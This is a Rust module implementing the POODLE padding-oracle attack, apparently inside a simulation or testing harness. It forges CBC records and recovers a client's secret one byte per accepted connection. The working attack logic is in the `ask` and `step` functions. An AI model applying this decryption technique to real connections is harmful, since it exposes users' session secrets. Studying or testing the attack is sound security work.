//! POODLE: padding of which only the last byte counts (Moeller, Duong and Kotowicz, "This POODLE bites", 2014).
//!
//! A script of hers in the client's browser lets the client say its secret with words of hers around it:
//!
//! 1. In front so many that an unknown byte is the last of its block `C`; behind so many that the padding is a whole block.
//! 2. She puts `C` in the place of the last block, and lets the record go on. The server takes the last byte of
//!    `D(C) xor C'`, with `C'` the block before the last, for the padding's length. Once in 256 times it is right, and the
//!    server is content: then `P = length xor C' xor C''`, with `C''` what was in front of `C` first.
//! 3. Otherwise the server ends the connection, and the client makes a new one, with other keys.
//!
//! A server that looks at every byte of the padding accepts that block once in `256^length` times.

use super::{Outcome, recording::Recording, secret::Secret, target::Target};
use std::ops::ControlFlow;

/// After so many refusals for one byte there is no flaw: with it, less than one byte in 2900 takes that long.
const MAX_TRIES: u32 = 2048;

#[derive(Clone, Debug)]
pub(super) struct Poodle {
    secret: Secret,
    tries: u32,
}

impl Poodle {
    pub fn new(recording: &Recording) -> Option<Self> {
        Some(Self {
            secret: Secret::of(recording)?,
            tries: 0,
        })
    }

    pub fn step(&mut self, target: &mut Target) -> Option<Outcome> {
        let length = match self.secret.length(target)? {
            ControlFlow::Break(outcome) => return Some(outcome),
            ControlFlow::Continue(length) => length,
        };
        self.tries += 1;
        if let Some(byte) = self.ask(target, length)? {
            self.secret.known.push(byte);
            self.tries = 0;
        }
        Some(match self.tries < MAX_TRIES {
            true => Outcome::Going,
            false => Outcome::Failed,
        })
    }

    /// One connection: the next byte of the secret, if the server was content.
    fn ask(&self, target: &mut Target, length: usize) -> Option<Option<u8>> {
        let mut connection = target.connect()?;
        let last = connection.last().to_vec();
        let before = self.secret.blocks.fill_before(self.secret.known.len());
        let at = (before.len() + self.secret.known.len()) / self.secret.blocks.length;
        let after = self
            .secret
            .blocks
            .fill_up(before.len() + length + self.secret.blocks.mac);
        let record = target
            .client_says_secret(&mut connection, &before, &after)
            .pop()?;
        let mut cut = self.secret.blocks.cut(&record, &last);
        let sought = cut.get(at + 1)?.clone();
        let masks = [cut.get(at)?, cut.get(cut.len().checked_sub(2)?)?];
        let [first, second] = masks.map(|block| block.last().copied().unwrap_or_default());
        *cut.last_mut()? = sought;
        let forged = self.secret.blocks.forge(&record, &cut)?;
        let answer = target.ask_server(&mut connection, forged);
        let padding_length = u8::try_from(self.secret.blocks.length - 1).ok()?;
        let accepted = answer.records.is_empty();
        Some(accepted.then_some(padding_length ^ first ^ second))
    }
}
